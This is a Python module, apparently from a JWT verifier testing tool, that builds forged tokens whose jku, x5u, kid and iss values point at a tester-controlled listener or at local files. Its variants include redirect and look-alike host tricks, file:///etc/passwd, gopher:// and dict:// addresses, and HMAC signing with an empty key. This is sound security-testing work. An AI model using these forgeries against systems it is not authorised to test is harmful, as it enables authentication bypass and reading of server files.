"""Family G: the token names an address that the key is to be fetched from.

The addresses are of a listener of ours, or under .invalid, or files; none belongs to anybody else.
"""

from __future__ import annotations

from collections.abc import Mapping
from urllib.parse import quote, urlsplit

from tenantproof.probes.forging.families import Family, Variants
from tenantproof.probes.forging.material import ELSEWHERE, Material
from tenantproof.probes.forging.raw import maced, signed

FAMILY = Family("G", "fetched key")
_VIOLATES = "RFC 8725 2.9, 3.10; RFC 7515 4.1.2, 4.1.5"
KEY_ID = "listener"
"""The kid of the listener's key, which is the forger's own."""


def _naming(material: Material, **members: object) -> str:
    """A token that names an address in its header, signed by the key that is to be found there."""
    return signed(material.head(alg="ES256", kid=KEY_ID, **members), material.payload, material.own.ec)


@FAMILY.of("J077", "jku of a key set of its own", _VIOLATES, "listener")
def _key_set(material: Material) -> Variants:
    yield "jku", _naming(material, jku=f"{material.listener}/J077/jwks.json")
    yield (
        "jku under the issuer's kid",
        signed(
            material.head(alg="ES256", jku=f"{material.listener}/J077/jwks.json"), material.payload, material.own.ec
        ),
    )


@FAMILY.of("J078", "jku of a single key", _VIOLATES, "listener")
def _single_key(material: Material) -> Variants:
    yield "", _naming(material, jku=f"{material.listener}/J078/jwk.json")


@FAMILY.of("J079", "jku by way of the issuer's host", _VIOLATES, "listener")
def _by_redirect(material: Material) -> Variants:
    issuer = str(material.payload.get("iss", ELSEWHERE)).rstrip("/")
    target = f"{material.listener}/J079/jwks.json"
    yield "a redirect in the path", _naming(material, jku=f"{issuer}/redirect?url={quote(target, safe='')}")
    yield "steps out of the path", _naming(material, jku=f"{issuer}/../../J079/jwks.json")
    yield "a line break in the address", _naming(material, jku=f"{issuer}\r\n{target}")


@FAMILY.of("J080", "jku of a host that looks like the issuer's", _VIOLATES, "listener")
def _look_alike_host(material: Material) -> Variants:
    trusted = urlsplit(str(material.payload.get("iss", ELSEWHERE))).netloc
    host = urlsplit(material.listener).netloc
    addresses = {
        "the issuer's host as a user name": f"http://{trusted}@{host}/J080/jwks.json",
        "the issuer's host in the fragment": f"{material.listener}/J080/jwks.json#{trusted}",
        "the issuer's host in the query": f"{material.listener}/J080/jwks.json?{trusted}",
        "a backslash": f"http://{host}\\@{trusted}/J080/jwks.json",
        "the issuer's host in the path": f"{material.listener}/J080/{quote(trusted, safe='')}/jwks.json",
    }
    for name, address in addresses.items():
        yield name, _naming(material, jku=address)


@FAMILY.of("J081", "jku of a file or another scheme", _VIOLATES)
def _other_schemes(material: Material) -> Variants:
    for address in ("file:///etc/passwd", "file:///dev/null", "gopher://keys.invalid/", "dict://keys.invalid/"):
        yield f"jku {address}", _naming(material, jku=address)
    for member in ("jku", "x5u"):
        yield f"{member} elsewhere", _naming(material, **{member: f"{ELSEWHERE}/jwks"})
    yield "jku /dev/null and HMAC by the empty key", maced(material.head(jku="file:///dev/null"), material.payload, b"")


@FAMILY.of("J082", "an address that is only to be fetched", _VIOLATES, "listener")
def _pingback(material: Material) -> Variants:
    for member in ("jku", "x5u", "jwks_uri", "kid", "url", "iss"):
        header = material.head(**{member: f"{material.listener}/J082/{member}"})
        yield f"{member} in the header", material.kept_under(header)


@FAMILY.of("J083", "x5u of a certificate of its own", _VIOLATES, "listener")
def _certificate(material: Material) -> Variants:
    yield "", _naming(material, x5u=f"{material.listener}/J083/certificate.pem")


@FAMILY.of("J084", "x5u of a file or by a redirect", _VIOLATES, "listener")
def _certificate_elsewhere(material: Material) -> Variants:
    yield "x5u of a file", _naming(material, x5u="file:///etc/ssl/certs/ca-certificates.crt")
    yield "x5u by a redirect", _naming(material, x5u=f"{material.listener}/redirect/J084/certificate.pem")


@FAMILY.of("J085", "iss of an issuer of its own", "RFC 8725 3.8; OpenID Connect Discovery 1.0 4.3", "listener")
def _issuer_elsewhere(material: Material) -> Variants:
    trusted = urlsplit(str(material.payload.get("iss", ELSEWHERE)))
    host = urlsplit(material.listener).netloc
    issuers: Mapping[str, str] = {
        "an issuer of its own": f"{material.listener}/J085",
        "the issuer's name as a user name": f"http://{trusted.netloc}@{host}/J085",
        "the issuer's path elsewhere": f"{material.listener}/J085{trusted.path}",
    }
    for name, issuer in issuers.items():
        header = material.head(alg="ES256", kid=KEY_ID)
        yield name, signed(header, material.claims(iss=issuer), material.own.ec)


@FAMILY.of("J086", "the issuer's metadata at an address of its own", _VIOLATES, "listener")
def _metadata(material: Material) -> Variants:
    for member, path in (("jwks_uri", "jwks.json"), ("openid_configuration", ".well-known/openid-configuration")):
        yield f"{member} in the header", _naming(material, **{member: f"{material.listener}/J086/{path}"})
        header = material.head(alg="ES256", kid=KEY_ID)
        claims = material.claims(**{member: f"{material.listener}/J086/{path}"})
        yield f"{member} in the claims", signed(header, claims, material.own.ec)


@FAMILY.of("J087", "kid an address", _VIOLATES, "listener")
def _key_id(material: Material) -> Variants:
    address = f"{material.listener}/J087/jwk.json"
    yield "kid a URL", signed(material.head(alg="ES256", kid=address), material.payload, material.own.ec)
    yield "kid a URL and HMAC by what it says", maced(material.head(kid=f"{address}?empty"), material.payload, b"")
